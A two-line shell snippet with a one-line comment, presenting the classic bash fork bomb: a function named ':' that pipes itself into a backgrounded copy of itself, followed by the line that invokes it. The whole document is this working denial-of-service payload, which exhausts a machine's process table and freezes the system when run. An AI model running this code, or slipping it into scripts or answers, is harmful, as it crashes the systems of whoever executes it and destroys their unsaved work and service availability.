# The fork bomb: a function called ":" that starts itself twice, in the background, and so do those.
:() { : | : & }
:
